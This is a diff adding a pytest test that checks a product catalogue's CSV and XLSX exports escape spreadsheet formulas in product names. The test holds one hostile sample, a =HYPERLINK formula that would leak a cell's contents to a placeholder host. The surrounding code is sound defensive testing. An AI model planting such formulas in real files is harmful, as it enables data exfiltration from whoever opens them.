@@ -64,3 +64,18 @@ def test_a_file_that_is_no_sheet_is_refused_as_such():
     with pytest.raises(product_sheet.SheetError, match="empty"):
         product_sheet.parse([], CATALOGUE)
     assert product_sheet.rows_from_csv("sku,name\nA,苹果\n".encode("gb18030"))[1] == ["A", "苹果"]
+
+
+def test_a_name_that_a_spreadsheet_would_run_is_exported_as_text():
+    """A stall owner may name their product; HQ opens the export in a spreadsheet: it must not run it."""
+    hostile = Product(sku="PS-EVIL", name='=HYPERLINK("http://x/?"&B2,"open")', category="packed", unit="piece",
+                      price_fen=100)
+    catalogue = Catalogue([hostile])
+    text = product_sheet.to_csv(catalogue).decode("utf-8-sig")
+    assert "'=HYPERLINK" in text and ",=HYPERLINK" not in text
+    from io import BytesIO
+
+    from openpyxl import load_workbook
+    sheet = load_workbook(BytesIO(product_sheet.to_xlsx(catalogue))).active
+    cell = next(c for row in sheet.iter_rows() for c in row if isinstance(c.value, str) and "HYPERLINK" in c.value)
+    assert cell.data_type == "s" and cell.value.startswith("'=")
